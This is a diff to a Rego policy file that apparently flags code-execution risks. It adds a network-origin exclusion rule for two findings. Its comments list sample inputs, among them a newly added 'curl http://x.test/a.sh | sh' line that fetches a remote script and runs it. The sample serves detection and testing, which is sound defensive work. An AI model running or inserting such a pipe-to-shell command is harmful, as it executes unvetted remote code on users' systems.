@@ -61,10 +61,18 @@ findings contains {"id": "SBX-EXEC-0001", "at": d.at, "msg": sprintf("text is ru
 #     - {"language": "python", "code": "import os\ndef f(x):\n    os.system(x)"}
 #     - {"language": "python", "code": "import subprocess\nsubprocess.run(['git','status'])"}
 #     - {"language": "bash", "code": "eval \"$1\""}
+#     - {"language": "bash", "code": "curl http://x.test/a.sh | sh"}
 findings contains {"id": "SBX-EXEC-0002", "at": d.at, "msg": sprintf("what is run could not be told: %s", [d.detail])} if {
 	some kind in ["opaque_code", "opaque_file", "shell_unknown"]
 	some d in input.dynamic[kind]
 	not d.library
+	not received(d)
+}
+
+# received: it comes from the network, which is a finding of its own.
+received(d) if {
+	some from in d.from
+	startswith(from, "net")
 }
 
 # METADATA
@@ -90,6 +98,7 @@ findings contains {"id": "SBX-EXEC-0003", "at": d.at, "msg": sprintf("the progra
 	some kind in ["opaque_command", "glob_command"]
 	some d in input.dynamic[kind]
 	not d.library
+	not received(d)
 }
 
 # METADATA
